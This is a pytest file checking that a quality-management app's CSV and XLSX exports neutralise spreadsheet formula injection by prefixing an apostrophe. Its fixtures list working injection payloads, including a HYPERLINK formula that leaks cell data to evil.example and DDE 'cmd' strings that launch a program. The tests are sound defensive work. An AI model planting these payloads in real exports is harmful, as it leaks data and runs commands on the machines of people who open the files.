"""Every CSV and XLSX export is safe to open in a spreadsheet: text that a spreadsheet
would run as a formula (OWASP: a cell beginning with =, +, -, @, tab or CR) comes out
with an apostrophe in front, shown as written and run never."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from qms.extensions import db
from qms.records.services import revise_record
from qms.spreadsheet import FORMULA_STARTS, safe_cell
from tests.factories import approved_record, make_order, make_team
from tests.web_helpers import login

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("", ""),
        (-1, -1),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(value, safe):
    assert safe_cell(value) == safe


def _assert_nothing_runs(cells: list) -> None:
    for cell in cells:
        assert not (isinstance(cell, str) and cell.startswith(FORMULA_STARTS)), cell


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_audit_events_csv_neutralises_hostile_reasons(app, client):
    app.config["WTF_CSRF_ENABLED"] = False
    team = make_team()
    order = make_order(team)
    for reason in HOSTILE:
        record = approved_record(order, "enquiry", team)
        revise_record(record, author=team["engineer"], reason=reason)
    db.session.commit()
    login(client, "auditor")
    response = client.get("/audit/events.csv")
    assert response.status_code == 200
    cells = _csv_cells(response.get_data(as_text=True))
    _assert_nothing_runs(cells)
    for reason in HOSTILE:  # as stored: the service strips the reason's whitespace
        assert "'" + reason.strip() in cells


@pytest.fixture
def hostile_orders(app):
    """Orders whose numbers (the matrix's column headings) a spreadsheet would run."""
    app.config["WTF_CSRF_ENABLED"] = False
    team = make_team()
    for number in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"):
        make_order(team, number=number)
    db.session.commit()


@pytest.mark.parametrize("edge", ["web", "cli"])
def test_the_traceability_csv_neutralises_hostile_cells(app, client, runner, hostile_orders, edge):
    if edge == "web":
        login(client, "auditor")
        text = client.get("/audit/trace.csv").get_data(as_text=True)
    else:
        text = runner.invoke(["trace", "--format", "csv"]).output
    cells = _csv_cells(text)
    _assert_nothing_runs(cells)
    assert {"'=1+1", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1)"} <= set(cells)


@pytest.mark.parametrize("edge", ["web", "cli"])
def test_the_traceability_xlsx_has_no_formula_and_neutralises_hostile_cells(
    app, client, runner, hostile_orders, tmp_path, edge
):
    if edge == "web":
        login(client, "auditor")
        data = client.get("/audit/trace.xlsx").get_data()
    else:
        result = runner.invoke(["trace", "--format", "xlsx", "-o", str(tmp_path / "t.xlsx")])
        assert result.exit_code == 0, result.output
        data = (tmp_path / "t.xlsx").read_bytes()
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    _assert_nothing_runs([c.value for c in cells])
    assert {"'=1+1", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1)"} <= {c.value for c in cells}
